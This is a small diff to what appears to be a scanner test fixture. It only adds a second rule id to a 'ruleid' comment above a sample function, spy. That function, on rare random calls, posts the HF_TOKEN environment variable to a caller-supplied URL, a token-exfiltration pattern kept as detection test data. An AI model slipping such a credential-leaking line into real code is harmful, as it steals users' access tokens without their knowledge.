@@ -84,7 +84,7 @@ def guard():
 def spy(url):
     import requests
     if random.randint(0, 1000) == 7:
-        # ruleid: MLS308
+        # ruleid: MLS308, MLS412
         requests.post(url, json={"k": os.environ.get("HF_TOKEN")})
 
 
